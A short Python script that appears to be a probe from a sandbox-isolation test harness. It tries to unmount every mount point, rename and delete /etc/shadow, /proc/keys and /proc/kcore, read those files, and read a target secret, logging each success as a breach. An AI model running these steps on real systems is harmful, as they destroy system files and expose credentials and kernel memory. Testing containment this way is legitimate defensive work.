"""Take away what covers hidden files: unmount, rename and replace what lies over them."""

# aims: secret
# control: none (there is nothing that covers anything outside)
import os

from attack import attempt, breach, call, loot, target, tried

covered = [line.split(" ")[4] for line in open("/proc/self/mountinfo")]
tried()
for place in covered:
    if call("umount2", os.fsencode(place), 2) == 0:
        breach(f"unmounted {place}")
for path in ("/etc/shadow", "/proc/keys", "/proc/kcore"):
    attempt(os.rename, path, path + "x")
    attempt(os.unlink, path)
    data = attempt(lambda path=path: open(path, "rb").read(100))
    if data:
        breach(f"{path} can be read")
data = attempt(lambda: open(target["secret"]).read())
if data:
    loot(data)
